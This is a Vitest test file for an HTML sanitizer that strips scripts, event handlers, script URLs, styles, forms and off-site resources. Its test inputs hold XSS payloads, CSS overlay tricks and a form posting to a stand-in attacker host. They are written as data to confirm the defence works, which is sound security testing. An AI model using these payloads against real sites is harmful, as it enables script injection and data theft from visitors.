// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { sanitizeHtml, setSanitizedHtml } from './sanitize';

describe('sanitizeHtml', () => {
  it('removes scripts and event handlers', () => {
    const html = sanitizeHtml(
      '<p onclick="alert(1)">Hi<script>alert(1)</script><img src="x.png" onerror="alert(1)"></p>',
    );
    expect(html).toBe('<p>Hi<img src="x.png"></p>');
  });

  it('turns a script link into about:blank and keeps the link text', () => {
    const root = document.createElement('div');
    root.innerHTML = sanitizeHtml(
      '<a href="javascript:alert(1)">Fund</a> <a href=" JaVaScRiPt:x">B</a> <a href="/about">About</a>',
    );
    const links = [...root.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['about:blank', 'about:blank', '/about']);
    expect(root.textContent).toBe('Fund B About');
  });

  it('applies the rule to src and xlink:href', () => {
    const root = document.createElement('div');
    root.innerHTML = sanitizeHtml(
      '<img src="data:image/svg+xml,<svg onload=alert(1)>"><svg><a xlink:href="javascript:alert(1)"><text>t</text></a></svg>',
    );
    expect(root.querySelector('img')?.getAttribute('src')).toBe('about:blank');
    expect(root.querySelector('svg a')?.getAttribute('xlink:href')).toBe('about:blank');
  });

  it('keeps target=_blank and adds rel="noopener noreferrer"', () => {
    const root = document.createElement('div');
    root.innerHTML = sanitizeHtml(
      '<a href="/subscribe" target="_blank" rel="external">Manage All Subscriptions</a><a href="/x">x</a>',
    );
    const [blank, plain] = [...root.querySelectorAll('a')];
    expect(blank!.getAttribute('target')).toBe('_blank');
    expect(blank!.getAttribute('rel')).toBe('external noopener noreferrer');
    expect(plain!.hasAttribute('rel')).toBe(false);
  });

  it('removes styles that could hide or cover the widget: <style> elements, @import, style attributes', () => {
    const html = sanitizeHtml(
      '<style>@import url(//evil.example/x.css); .actions{display:none}</style>' +
        '<p style="position:fixed;inset:0;z-index:9999">Read this</p>' +
        '<svg><style>*{opacity:0}</style><circle r="1"></circle></svg>',
    );
    expect(html).not.toMatch(/style|@import|position/i);
    expect(html).toContain('<p>Read this</p>');
  });

  it('removes a <base> and a linked sheet, and renames what a parser would act on before any parser sees it', () => {
    const html = sanitizeHtml(
      '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/y.css">' +
        '<STYLE type="text/css">p{color:red}</STYLE ><p>Kept</p>',
    );
    expect(html).toBe('<p>Kept</p>');
  });

  it('removes event handlers however they are written, before a parser sees them', () => {
    const html = sanitizeHtml(
      '<img src="x.png" onerror="alert(1)"><img src="y.png"ONLOAD=alert(2)><svg/onload=alert(3)>' +
        "<p title='a'onclick = 'x()'>Text about going on=time</p>",
    );
    expect(html).not.toMatch(/\bon(error|load|click)\b|x-removed/i);
    expect(html).toContain('Text about going on=time');
  });

  it('removes forms and their controls, keeping their text', () => {
    const html = sanitizeHtml(
      '<form action="https://evil.example/collect"><label>Name <input name="n"></label>' +
        '<button formaction="https://evil.example">Send</button><select><option>x</option></select>' +
        '<textarea>t</textarea></form><p popover>p</p>',
    );
    expect(html).not.toMatch(/<form|<input|<button|<select|<textarea|action=|popover/i);
    expect(html).toContain('Name');
  });

  it('gives an empty string for missing HTML', () => {
    expect(sanitizeHtml(undefined)).toBe('');
  });
});

describe('setSanitizedHtml', () => {
  it("sets the element's content to the sanitised HTML", () => {
    const element = document.createElement('div');
    setSanitizedHtml(
      element,
      '<h3>Disclaimer</h3><p>Text <a href="vbscript:x" target="_blank">link</a></p><script>alert(1)</script>',
    );
    expect(element.querySelector('h3')?.textContent).toBe('Disclaimer');
    expect(element.querySelector('script')).toBeNull();
    const link = element.querySelector('a')!;
    expect(link.getAttribute('href')).toBe('about:blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    setSanitizedHtml(element, undefined);
    expect(element.innerHTML).toBe('');
  });
});

describe("setSanitizedHtml with resources: 'site' (an article's body)", () => {
  const set = (html: string, resources?: 'site') => {
    const root = document.createElement('div');
    setSanitizedHtml(root, html, resources ? { resources } : {});
    return root;
  };

  it('keeps images of the site and drops those of other hosts, also written protocol-relative', () => {
    const root = set(
      '<img src="/binaries/a.svg" alt="a"><img src="//evil.example/pixel.gif" alt="b">' +
        '<img src="https://evil.example/c.png" alt="c"><img src="/d.png" srcset="https://evil.example/e.png 2x" alt="d">',
      'site',
    );
    expect([...root.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual([
      '/binaries/a.svg',
      null,
      null,
      '/d.png',
    ]);
    expect(root.querySelector('[srcset]')).toBeNull();
  });

  it("drops an SVG's reference to another host and a media poster from one", () => {
    const root = set(
      '<svg><use href="https://evil.example/s.svg#i"></use><image xlink:href="//evil.example/i.png"></image></svg>' +
        '<video poster="https://evil.example/p.png" src="/v.mp4"></video>',
      'site',
    );
    // DOMPurify drops some of these elements itself; whatever stays names no other host.
    expect(root.innerHTML).not.toContain('evil.example');
    expect(root.querySelector('video')?.hasAttribute('poster')).toBe(false);
    expect(root.querySelector('video')?.getAttribute('src')).toBe('/v.mp4');
  });

  it('keeps links to other hosts (a visitor may follow them), and other HTML keeps its images by default', () => {
    const root = set('<a href="https://other.example/report">Report</a>', 'site');
    expect(root.querySelector('a')?.getAttribute('href')).toBe('https://other.example/report');
    expect(set('<img src="https://cdn.example/a.png" alt="">').querySelector('img')?.getAttribute('src')).toBe(
      'https://cdn.example/a.png',
    );
  });
});
